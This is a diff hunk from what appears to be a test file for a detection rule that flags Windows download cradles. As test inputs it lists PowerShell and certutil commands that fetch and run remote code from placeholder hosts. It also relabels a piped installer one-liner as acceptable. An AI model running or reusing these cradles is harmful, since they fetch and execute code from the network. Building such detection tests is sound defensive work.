@@ -663,8 +663,10 @@ cradle = "powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadSt
 encoded = "powershell.exe -nop -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwA="
 # ruleid: windows-download-cradle
 fetch = "certutil.exe -urlcache -split -f http://198.51.100.7/p.exe p.exe"
-# ruleid: windows-download-cradle
-piped = "iwr https://x.example/s.ps1 -UseBasicParsing | iex"
+# an installer's documented one-liner, as text: running it is what the
+# process rules judge
+# ok: windows-download-cradle
+install_hint = "powershell -c \"irm https://astral.sh/uv/install.ps1 | iex\""
 # ok: windows-download-cradle
 build_ps = "powershell -NoProfile -File build.ps1 -Configuration Release"
 # ok: windows-download-cradle
